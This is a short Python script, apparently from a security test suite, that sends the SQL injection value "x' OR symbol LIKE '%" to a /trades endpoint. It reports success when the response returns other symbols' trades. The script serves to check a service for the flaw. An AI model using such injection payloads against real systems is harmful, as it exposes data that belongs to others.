"""Reads the trades of every symbol through the symbol that is asked for."""

from __future__ import annotations

from service import Attack, Refused, ask, get, run


def inject_value(attack: Attack) -> None:
    """Ask for a symbol that ends its literal and goes on as SQL."""
    (rows,) = ask(get("/trades", {"symbol": "x' OR symbol LIKE '%"}))
    if not rows:
        raise Refused("NoEffect", "the database compared the text with symbols and found none")
    found = ", ".join(sorted({row["symbol"] for row in rows}))
    attack.succeeded(f"a symbol that nobody trades returned the trades of {found}")


if __name__ == "__main__":
    run(inject_value)
